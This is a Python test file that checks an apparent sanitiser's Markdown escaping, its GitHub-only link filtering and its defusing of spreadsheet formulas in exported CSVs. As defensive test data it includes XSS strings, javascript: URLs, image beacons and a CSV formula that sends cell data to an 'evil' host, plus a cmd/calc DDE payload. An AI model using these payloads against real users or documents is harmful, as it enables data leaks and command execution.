"""Untrusted text and links on their way out: Markdown escaping (:func:`plain`), GitHub-only
links (:func:`safe_link`), formula-free CSVs (:func:`safe_csv_frame`) and repository names."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from core.errors import ConfigError
from core.github.repo_names import parse_repo, web_host
from core.presentation.exports import csv_bytes, safe_csv_cell, safe_csv_frame, write_csv
from core.presentation.links import is_link_column, safe_link, safe_links
from core.presentation.text import plain

PAYLOADS = [
    "![x](http://evil/beacon.png)",
    "[link](http://x)",
    "$$\\KaTeX$$ and $x^2$",
    "<img src=x onerror=alert(1)>",
    ":material/warning: :red[alarm] :smile: :streamlit:",
    "**bold** _it_ ~~gone~~ `code` # heading | a | b |",
    "www.evil.example and mail@evil.example and https://evil.example/x",
    "&lt;b&gt; &#91;entity&#93; {curly} \\backslash",
]


MARKUP = set("\\`*_[](){}<>#!$|~:@&.=")  # escaped wherever they are


def _unescape(markdown: str) -> str:
    """What CommonMark shows for a text of backslash-escaped ASCII punctuation."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", markdown)


# --------------------------------------------------------------------------- plain (Markdown)


def _unescaped_markup(markdown: str) -> list[str]:
    """The markup characters of ``markdown`` that no backslash escapes."""
    found, index = [], 0
    while index < len(markdown):
        if markdown[index] == "\\" and index + 1 < len(markdown):
            index += 2
            continue
        if markdown[index] in MARKUP:
            found.append(markdown[index])
        index += 1
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_plain_escapes_every_markup_character_and_reads_as_the_original(payload):
    escaped = plain(payload)

    assert _unescape(escaped) == payload
    assert _unescaped_markup(escaped) == []
    assert _unescaped_markup(payload)  # the check itself sees markup when there is some


@pytest.mark.parametrize("char", sorted(MARKUP))
def test_plain_escapes_each_markup_character_alone(char):
    assert plain(char) == "\\" + char
    assert plain(f"a{char}b") == f"a\\{char}b"


def test_plain_gives_the_documented_escaped_forms():
    assert plain("![x](http://evil/beacon.png)") == r"\!\[x\]\(http\://evil/beacon\.png\)"
    assert plain("[link](http://x)") == r"\[link\]\(http\://x\)"
    assert plain("$$\\KaTeX$$") == r"\$\$\\KaTeX\$\$"
    assert plain("<img src=x>") == r"\<img src\=x\>"
    assert plain(":red[a]") == r"\:red\[a\]"


def test_plain_breaks_streamlits_material_icon_rewrite():
    # Streamlit replaces ":material/" in the raw source before parsing: it must not occur.
    assert ":material/" not in plain(":material/warning:")
    assert _unescape(plain(":material/warning:")) == ":material/warning:"


def test_plain_escapes_list_markers_only_at_a_line_start():
    assert plain("- item\n  + more\nHello-World a+b") == "\\- item\n  \\+ more\nHello-World a+b"
    assert plain("1. first") == r"1\. first"  # the dot: no ordered list
    assert plain("---") == r"\---"  # no thematic break / setext underline


def test_plain_keeps_lines_and_normalises_carriage_returns():
    assert plain("one\r\ntwo\rthree") == "one\ntwo\nthree"


def test_plain_of_nothing_and_of_non_text():
    assert plain(None) == ""
    assert plain("") == ""
    assert plain(ValueError("bad [x]")) == r"bad \[x\]"
    assert plain(42) == "42"


def test_plain_leaves_ordinary_words_alone():
    assert plain("Synced acme-labs/shopfront: 12 new runs") == (
        r"Synced acme-labs/shopfront\: 12 new runs"
    )


# --------------------------------------------------------------------------- links


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/acme/app/actions/runs/1",
        "https://GitHub.com/acme/app/actions/runs/1/job/2#step:3:4",
    ],
)
def test_safe_link_keeps_https_links_to_the_configured_host(url):
    assert safe_link(url, "github.com") == url


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "http://github.com/acme/app",  # not https
        "HTTPS://github.com/acme/app",
        "https://evil.example/acme/app",
        "https://github.com.evil.example/x",
        "https://github.com@evil.example/x",
        "https://user:pw@github.com/x",
        "https://github.com:444/x",
        "https://github.com\\@evil.example/x",
        "https://github.com/x\njavascript:alert(1)",
        "//github.com/x",
        "data:text/html,<script>alert(1)</script>",
        "",
        None,
        float("nan"),
        42,
    ],
)
def test_safe_link_refuses_anything_else(url):
    assert safe_link(url, "github.com") == ""


def test_safe_link_with_no_host_keeps_nothing():
    assert safe_link("https://github.com/a/b", "") == ""


def test_safe_link_follows_an_enterprise_host():
    assert safe_link("https://ghe.corp.example/a/b", "ghe.corp.example")
    assert safe_link("https://github.com/a/b", "ghe.corp.example") == ""


def test_link_columns_are_found_by_config_or_name():
    import streamlit as st

    assert is_link_column("Run", st.column_config.LinkColumn("Run"))
    assert not is_link_column("Run", st.column_config.TextColumn("Run"))
    for name in ("html_url", "run_url", "job_url", "GitHub", "github", "url"):
        assert is_link_column(name), name
    for name in ("summary", "urls_seen", "curl"):
        assert not is_link_column(name), name


def test_safe_links_cleans_every_link_column_and_nothing_else():
    frame = pd.DataFrame(
        {
            "run_url": ["https://github.com/a/b/actions/runs/1", "javascript:alert(1)", None],
            "Open": ["https://evil.example/", "https://github.com/a/b", ""],
            "summary": ["javascript:alert(1)", "x", "y"],
        }
    )
    import streamlit as st

    out = safe_links(frame, "github.com", {"Open": st.column_config.LinkColumn("Open")})

    assert out["run_url"].tolist() == ["https://github.com/a/b/actions/runs/1", "", ""]
    assert out["Open"].tolist() == ["", "https://github.com/a/b", ""]
    assert out["summary"].tolist() == frame["summary"].tolist()  # text, not a link
    assert frame["run_url"][1] == "javascript:alert(1)"  # the input is not changed


def test_safe_links_without_link_columns_returns_the_frame_itself():
    frame = pd.DataFrame({"a": [1]})
    assert safe_links(frame, "github.com") is frame


@pytest.mark.parametrize(
    "base, host",
    [
        ("https://api.github.com", "github.com"),
        ("https://api.github.com/", "github.com"),
        ("https://ghe.corp.example/api/v3", "ghe.corp.example"),
        ("https://GHE.corp.example/api/v3/", "ghe.corp.example"),
        ("https://api.acme.ghe.com", "acme.ghe.com"),
        ("http://127.0.0.1:8765", "127.0.0.1:8765"),
        ("", ""),
    ],
)
def test_web_host_of_an_api_base_url(base, host):
    assert web_host(base) == host


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "- item",
        "=1",
    ],
)
def test_a_formula_looking_cell_gets_a_leading_quote(cell):
    assert safe_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["-3", "-1,234.50", "+5%", "-0.25", "-1e-5", "ok", " =not at the start", "", "a=b", "'=x"],
)
def test_numbers_and_ordinary_text_are_kept(cell):
    assert safe_csv_cell(cell) is cell


@pytest.mark.parametrize("value", [-3, -2.5, np.int64(-7), np.float64(-0.5), None, True])
def test_non_text_values_are_kept(value):
    assert safe_csv_cell(value) is value


def _findings() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "job_name": ["build", '=HYPERLINK("http://evil","x")', "@cmd", None],
            "delta": [-1.5, 2.0, -3.25, np.nan],
            "count": np.array([-1, 0, 3, 4], dtype="int64"),
            "flag": [True, False, True, False],
            "when": pd.to_datetime(["2026-05-01T00:00:00Z"] * 4),
            "text_number": ["-3", "4", "-1,000.00", ""],
            "category": pd.Categorical(["-x", "y", "y", "z"]),
        }
    )


def test_safe_csv_frame_changes_only_formula_looking_text_cells():
    frame = _findings()

    out = safe_csv_frame(frame)

    assert out["job_name"].tolist()[:3] == ["build", '\'=HYPERLINK("http://evil","x")', "'@cmd"]
    assert out["job_name"].isna().tolist() == [False, False, False, True]
    assert out["category"].tolist() == ["'-x", "y", "y", "z"]
    for column in ("delta", "count", "flag", "when", "text_number"):
        pd.testing.assert_series_equal(out[column], frame[column])
    assert frame["job_name"][1].startswith("=")  # the input is not changed


def test_safe_csv_frame_of_a_clean_frame_is_the_frame_itself():
    frame = _findings().drop(columns=["job_name", "category"])
    assert safe_csv_frame(frame) is frame


def test_csv_bytes_are_to_csv_except_the_defused_cells():
    frame = _findings()
    expected = frame.to_csv(index=False, lineterminator="\r\n")
    expected = expected.replace(
        '"=HYPERLINK(""http://evil"",""x"")"', '"\'=HYPERLINK(""http://evil"",""x"")"'
    )
    expected = expected.replace("\n@cmd,", "\n'@cmd,").replace(",-x\r\n", ",'-x\r\n")

    assert csv_bytes(frame).decode("utf-8") == expected


def test_write_csv_of_normal_data_is_byte_identical_to_to_csv(tmp_path: Path):
    frame = _findings().drop(columns=["job_name", "category"])
    frame["name"] = ["build", "test (3.11)", "lint, docs", 'quote "x"']
    frame.to_csv(tmp_path / "before.csv", index=False, lineterminator="\r\n")  # RFC 4180

    path = write_csv(frame, tmp_path / "after.csv")

    assert path.read_bytes() == (tmp_path / "before.csv").read_bytes()


def test_analyze_writes_its_findings_through_the_same_rule(tmp_path: Path):
    from agents.base import AgentResult
    from agents.runner import write_findings_csv

    findings = pd.DataFrame({"job": ["=1+1", "ok"], "score": [-0.5, 1.0]})
    result = AgentResult(agent="x", findings=findings, metrics={}, summary="")

    path = write_findings_csv(result, tmp_path / "out", "x.csv")

    assert path.read_bytes() == b"job,score\r\n'=1+1,-0.5\r\nok,1.0\r\n"


# --------------------------------------------------------------------------- repository names


@pytest.mark.parametrize(
    "text",
    [
        "https://github.com/octocat/Hello-World/issues/3",
        "https://github.com/octocat/Hello-World/tree/main",
        "https://github.com/octocat/Hello-World/actions/runs/1",
        "https://github.com/octocat/Hello-World?tab=readme",
        "github.com/octocat/Hello-World/issues/3",
        "www.github.com/octocat/Hello-World",
        "https://ghe.corp.example/octocat/Hello-World/pull/1",
        "ssh://git@github.com/octocat/Hello-World.git",
        "http://127.0.0.1:8765/octocat/Hello-World",
    ],
)
def test_a_url_with_more_path_gives_owner_and_name(text):
    assert parse_repo(text) == "octocat/Hello-World"


@pytest.mark.parametrize("text", ["octocat/Hello-World/issues", "a/b/c", "a/b/c/d"])
def test_three_parts_that_are_not_a_url_are_refused_with_a_sentence(text):
    with pytest.raises(ConfigError, match="owner/name") as refused:
        parse_repo(text)
    assert "two parts" in str(refused.value)
